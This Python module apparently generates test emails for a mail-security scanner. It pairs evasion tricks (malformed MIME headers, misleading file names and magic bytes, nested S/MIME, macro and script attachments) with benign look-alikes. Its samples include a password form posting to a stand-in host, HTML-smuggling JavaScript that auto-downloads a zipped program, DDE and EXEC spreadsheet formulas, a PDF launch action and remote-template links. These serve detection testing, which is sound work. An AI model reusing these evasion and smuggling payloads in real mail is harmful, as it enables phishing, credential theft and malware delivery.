"""mail_tricks.py - mails that mail programs and Windows open otherwise than they look: what was once taken for clean.

tricks() gives (name, mail): each holds something dangerous, in a form that readers of mail disagree about; none may
be clean. near() gives the same forms without the danger, which must be. Nothing in them runs or leads anywhere.
"""
import base64
import io
import struct
import zipfile
import zlib

import mail_binary as binary
import mail_corpus as corpus

HEAD = ("From: taro@partner.example\r\nTo: office@office.example\r\nSubject: hello\r\nMessage-ID: <a@partner.example>\r\n"
        "MIME-Version: 1.0\r\n").encode()
TEXT = b"Content-Type: text/plain\r\n\r\nSee the attachment.\r\n"
PROGRAM = binary.program()
SCRIPT = b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc.exe");\n'
PAGE = (b'<html><body><form method="post" action="http://192.0.2.77/a.php">E-mail <input type="text" name="e">'
        b'Password <input type="password" name="p"><input type="submit"></form></body></html>')
LINK = b'<html><body><p>hello</p><a href="http://x1.evil.example/login">https://www.paypal.com/signin</a></body></html>'
LINK_TEXT = b"Please see http://203.0.113.9/pay.exe now\r\n"
CALENDAR = (b"begin:vcalendar\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260201T090000Z\r\nSUMMARY:x\r\n"
            b"ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=%s:%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")


def coded(data):
    return corpus.folded(data).encode()


def file(name, data, kind=b"application/octet-stream", disposition=None):
    disposition = disposition or b'attachment; filename="' + name.encode() + b'"'
    return (b"Content-Type: " + kind + b"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: " + disposition +
            b"\r\n\r\n" + coded(data) + b"\r\n")


def parts(*each, kind=b'multipart/mixed; boundary="xyz"', mark=b"xyz", head=HEAD):
    return (head + b"Content-Type: " + kind + b"\r\n\r\n" + b"".join(b"--" + mark + b"\r\n" + one for one in each) +
            b"--" + mark + b"--\r\n")


def attached(name, data, kind=b"application/octet-stream"):
    return parts(TEXT, file(name, data, kind))


def body(kind, data, more=b""):
    return HEAD + b"Content-Type: " + kind + b"\r\n" + more + b"\r\n" + data


def packed(files):
    room = io.BytesIO()
    with zipfile.ZipFile(room, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return room.getvalue()


# --- the beginning of a mail, of its texts and of its files ---

def beginnings():
    mail = attached("x.exe", PROGRAM)
    for name, first in [("two fields", b"Foo: 1\r\nBar: 2\r\n"), ("picture", b"BM: 1\r\n"), ("sound", b"ID3: 1\r\n"),
                        ("flash", b"FWS: 1\r\n"), ("page", b"<a>: 1\r\n"), ("sheet", b"ID;P: 1\r\n"),
                        ("program", b"MZ: 1\r\nBar: 2\r\n"), ("zero", b"Foo: 1\0\r\n"), ("film", b"Foo:ftyp\r\n"),
                        ("metafile", b"Foo: " + b"a" * 35 + b" EMF\r\n")]:
        yield f"mail that begins as {name}", first + mail
        yield f"mail in a mail that begins as {name}", parts(TEXT, b"Content-Type: message/rfc822\r\n\r\n" + first + mail)
    yield "mail with a zero in its text", mail.replace(b"See the", b"See\0the")
    for name, first in [("picture", b"BM "), ("sound", b"ID3 "), ("letters", b"OTTO "), ("program", b"#!/bin "),
                        ("tiff", b"II*\0"), ("gif", b"GIF89a"), ("zero", b"<!--\0-->"), ("film", b"<!--ftyp-->")]:
        yield f"page that begins as {name}", attached("x.html", first + PAGE, b"text/html")
        yield f"HTML that begins as {name}", body(b"text/html", first + LINK)
        yield f"text that begins as {name}", body(b"text/plain", first + LINK_TEXT)
    yield "text that begins as XML", body(b"text/plain", b"<http://203.0.113.9/pay.exe>\r\n")
    yield "text that begins as a mail", body(b"text/plain", b"From: a@b.example\r\nX-Click: http://203.0.113.9/pay.exe\r\n")
    yield "page behind a long comment", attached("x.html", b"<?xml version='1.0'?><!--" + b" " * 6000 + b"-->" + PAGE)
    launch = corpus.pdf(corpus.Maker("pdf"), b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>")
    for first in (b"x" * 900, b"<html>", b"\xff\xd8\xff\xe0\0\0", b"MZ"):
        yield f"PDF behind {first[:4]!r}", attached("x.pdf", first + launch)


# --- the structure of a mail ---

def structures():
    program = file("x.exe", PROGRAM)
    for kind in (b'(c) multipart/mixed; boundary="xyz"', b'multipart(c)/mixed; boundary="xyz"', b'multipart / mixed; boundary="xyz"',
                 b'"multipart/mixed"; boundary="xyz"', b'multipart; boundary="xyz"', b'; multipart/mixed; boundary="xyz"',
                 b'text/plain; boundary="xyz"', b'multipart/mixed; boundary(c)="xyz"', b'multipart/mixed; boundary=(c)xyz'):
        yield f"parts of {kind.decode()}", parts(TEXT, program, kind=kind)
    mail = parts(TEXT, program)
    yield "lines that end with CR", mail.replace(b"\r\n", b"\r", 9)
    yield "delimiters that end with CR", mail.replace(b"\r\n--xyz", b"\r--xyz")
    yield "encoding behind a comment", body(b"text/html", coded(LINK), b"Content-Transfer-Encoding: (x) base64\r\n")
    yield "charset of EBCDIC", body(b"text/html; charset=ibm037", coded(LINK.decode().encode("cp037")),
                                    b"Content-Transfer-Encoding: base64\r\n")
    for name, line in [("comment behind the name", b'attachment; filename (c) = "x.js"'), ("comment", b'attachment; filename=(c)"x.js"'),
                       ("comment at the end", b"attachment; filename=x.js(c)"), ("zero", b'attachment; filename="x.js\0.txt"'),
                       ("name", b'attachment; name="x.js"'), ("quote", b'attachment; filename="x.js\\"'),
                       ("stream", b'attachment; filename="x.js::$DATA"'), ("comma", b'attachment, filename="x.js"'),
                       ("many", b"attachment; " + b"a=b; " * 140 + b'filename="x.js"')]:
        yield f"name of a file: {name}", parts(TEXT, file("", SCRIPT, disposition=line))
    yield "name in the description", parts(TEXT, b"Content-Type: application/octet-stream\r\nContent-Description: x.js\r\n"
                                                 b"Content-Transfer-Encoding: base64\r\n\r\n" + coded(SCRIPT) + b"\r\n")
    smuggled = (b"<html><body><script>var d=atob('" + base64.b64encode(packed({"a.exe": PROGRAM})) + b"');var a=new "
                b"Uint8Array(d.length);for(var i=0;i<d.length;i++)a[i]=d.charCodeAt(i);var l=document.createElement('a');"
                b"l.href=URL.createObjectURL(new Blob([a]));l.download='invoice.zip';l.click();</script></body></html>")
    yield "HTML behind the text", parts(TEXT, b"Content-Type: text/html\r\n\r\n" + smuggled + b"\r\n")
    yield "attachment that lies elsewhere", parts(TEXT, b"Content-Type: application/pdf; name=x.pdf\r\nX-Mozilla-External-"
                                                  b"Attachment-URL: file://192.0.2.77/x/a.exe\r\n\r\n")
    plain = b"Content-Transfer-Encoding: base64\r\n"
    yield "text called a program", body(b"text/plain; name=x.exe", coded(PROGRAM), plain)
    yield "text called a script", body(b"text/plain; name=x.js", coded(SCRIPT), plain)
    yield "text that is a program", body(b"text/plain", coded(PROGRAM), plain)
    yield "BinHex", body(b"text/plain", b"(This file must be converted with BinHex 4.0)\r\n:abc:\r\n")
    yield "yEnc", body(b"text/plain", b"=ybegin line=128 size=3 name=x.exe\r\nabc\r\n=yend size=3\r\n")


# --- what is sealed ---

def der(tag, content):
    length = len(content)
    if length < 128:
        return bytes([tag, length]) + content
    return bytes([tag, 0x84]) + length.to_bytes(4, "big") + content


def signed(octets):
    inside = der(0x30, der(6, bytes.fromhex("2a864886f70d010701")) + octets)
    data = der(0x30, der(2, b"\1") + der(0x31, b"") + inside + der(0x31, b""))
    return der(0x30, der(6, bytes.fromhex("2a864886f70d010702")) + der(0xa0, data))


def seals():
    inner = file("x.exe", PROGRAM)
    whole = signed(der(0xa0, der(4, inner)))
    pieces = signed(der(0xa0, der(0x24, der(0x24, der(4, inner[:50])) + der(4, inner[50:]))))
    code = b"Content-Transfer-Encoding: base64\r\n"
    yield "S/MIME by its name", body(b"application/octet-stream; name=smime.p7m", coded(whole), code)
    yield "S/MIME behind a comment", body(b"(c) application/pkcs7-mime", coded(whole), code)
    yield "S/MIME in pieces of pieces", body(b"application/pkcs7-mime", coded(pieces), code)
    yield "S/MIME that is broken", body(b"application/pkcs7-mime", coded(signed(der(0xa0, b"\5\0"))), code)
    yield "file of PGP", attached("x.exe.pgp", b"\x85\x01\x0c\x03" + bytes(range(256)))


# --- files by their names and kinds ---

def files():
    for ending, data in [("wsb", b"<Configuration><LogonCommand><Command>cmd</Command></LogonCommand></Configuration>"),
                         ("contact", b"<c:contact/>"), ("dqy", b"XLODBC\r\n1\r\n"), ("msc", b"<MMC_ConsoleFile/>"),
                         ("appcontent-ms", b"<x/>"), ("terminal", b"<plist><dict/></plist>"), ("xbap", b"x")]:
        yield f"file .{ending}", attached("x." + ending, data)
        yield f"file .{ending} in a zip", attached("x.zip", packed({"x." + ending: data}))
    for ending, data in [("fileloc", b"<plist><dict/></plist>"), ("inetloc", b"<plist><dict/></plist>"), ("maf", b"x"),
                         ("deb", b"!<arch>\n"), ("egg", b"EGGA" + b"\0" * 30), ("alz", b"ALZ\1" + b"\0" * 30),
                         ("mdb", b"\0\1\0\0Standard Jet DB\0" + b"\0" * 100), ("eps", b"%!PS\n(%pipe%id) (r) file\n")]:
        yield f"file .{ending}", attached("x." + ending, data)
    yield "script among documents", attached("x.zip", packed({"a.js": SCRIPT, **{f"r{n}.txt": b"x" for n in range(20)}}))
    gzip = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = gzip.compress(SCRIPT) + gzip.flush()
    yield "gzip with two names", attached("x.js.gz", b"\x1f\x8b\x08\x08" + bytes(6) + b"readme.txt\0" + deflated +
                                          struct.pack("<II", zlib.crc32(SCRIPT), len(SCRIPT)))
    yield "program in an invitation", attached("x.ics", CALENDAR % (b"x.exe", base64.b64encode(PROGRAM)))
    yield "script in an invitation", attached("x.ics", CALENDAR.replace(b"begin:vcal", b"BEGIN:VCAL") %
                                              (b"x.js", base64.b64encode(SCRIPT)))


# --- documents and pages ---

def documents():
    m = corpus.Maker("documents")
    template = [("attachedTemplate", "http://192.0.2.77/x.dotm", True)]
    package = corpus.docx(m, settings=template)
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        each = {name: archive.read(name) for name in archive.namelist()}
    types = each.pop("[Content_Types].xml")
    yield "package without its list", attached("x.docx", packed(each))
    yield "package whose list is in small letters", attached("x.docx", packed({"[content_types].xml": types, **each}))
    yield "text called .xls", attached("x.xls", b"a\t=cmd|'/c calc'!A0\r\n")
    yield "script in a message of Outlook", attached("x.msg", binary.compound({
        "__properties_version1.0": bytes(32), "__attach_version1.0_#00000000/__properties_version1.0": bytes(8),
        "__attach_version1.0_#00000000/__substg1.0_37010102": SCRIPT,
        "__attach_version1.0_#00000000/__substg1.0_3707001F": "x.js".encode("utf-16-le")},
        "00020d0b-0000-0000-c000-000000000046"))
    project = binary.compound(binary.vba_project(corpus.MACRO.encode()))
    for name in ("word/theme.xml", "word/x.rels"):
        yield f"macros called {name}", attached("x.docx", corpus.docx(m, more={name: project}))
    yield "EXEC in a sheet of cells", attached("x.xlsx", corpus.xlsx(m, {
        "xl/worksheets/s.xml": '<worksheet><sheetData><row><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></worksheet>'}))
    odt = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>",
           "META-INF/manifest.xml": "<x/>", "Scripts/python/x.py": "import os\n"}
    yield "Python in ODF", attached("x.odt", packed(odt))
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    for name, text in [("prefix", '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'),
                       ("href", svg + '<script href="data:,alert(1)"/></svg>'),
                       ("foreign", svg + '<foreignObject><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'
                                         '</foreignObject></svg>'),
                       ("entity", '<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>' + svg + "&x;</svg>")]:
        yield f"script in SVG: {name}", attached("x.svg", text.encode(), b"image/svg+xml")
    stored = base64.b64encode(packed({"a.exe": PROGRAM})).decode()
    host = "http://x1.evil.example/a"
    for name, text in [("refresh", f'<meta http-equiv="&#114;efresh" content="0;url={host}">'),
                       ("password", f'<form action="{host}"><input type="pass&#119;ord"></form>'),
                       ("script from elsewhere", f'<script src="{host}"></script>'),
                       ("address in pieces", "<script>top['loc'+'ation']['hr'+'ef']=['ht','tp:/','/x1.evil.example'].join('')</script>"),
                       ("file in a field", "<input type=hidden id=q value='" + stored + "'><p>Your invoice was saved below, please "
                        "open it with the password of our last letter.</p><script>var b=atob(document.getElementById('q').value),"
                        "u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement('a');"
                        "a.href=URL.createObjectURL(new Blob([u]));a.download='x.zip';a.click()</script>"),
                       ("frame from elsewhere", f'<iframe src="{host}"></iframe>')]:
        yield f"page: {name}", attached("x.html", text.encode(), b"text/html")
    for name, text in [("picture", '<img src="fi&#108;e://192.0.2.77/x.png">'), ("style", '<link rel=stylesheet href="file://192.0.2.77/x">'),
                       ("background", '<table background="\\\\192.0.2.77\\x\\y.png">')]:
        yield f"share in HTML: {name}", body(b"text/html", text.encode())


def tricks():
    for group in (beginnings, structures, seals, files, documents):
        yield from group()


def near():
    """The same forms, as offices send them."""
    yield "text about cars", body(b"text/plain", b"BMW: the new models.\r\n")
    yield "text about sound", body(b"text/plain", b"ID3 tags are read now.\r\n")
    yield "name with brackets", parts(TEXT, file("", b"hello", disposition=b"attachment; filename=report (1).txt"))
    yield "detached signature", parts(TEXT, file("smime.p7s", signed(b""), b"application/pkcs7-signature"))
    yield "key of PGP", attached("key.gpg", b"\x99\x01\x0d\x04" + bytes(100))
    yield "text with a name", body(b"text/plain; name=notes.txt", b"hello\r\n")
    yield "mail in a mail that names its boundary", parts(
        TEXT, b"Content-Type: message/rfc822; boundary=abc\r\n\r\n" + parts(TEXT, kind=b"multipart/mixed; boundary=abc", mark=b"abc"))
    yield "files of a site", attached("x.zip", packed({"index.html": "<p>hello</p>", **{f"{n}.js": "var a;" for n in range(12)}}))
    yield "invitation with minutes", attached("x.ics", CALENDAR % (b"minutes.txt", base64.b64encode(b"hello")))
    yield "picture with an entity", attached(
        "x.svg", b'<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"><path d="M0 0"/></svg>', b"image/svg+xml")
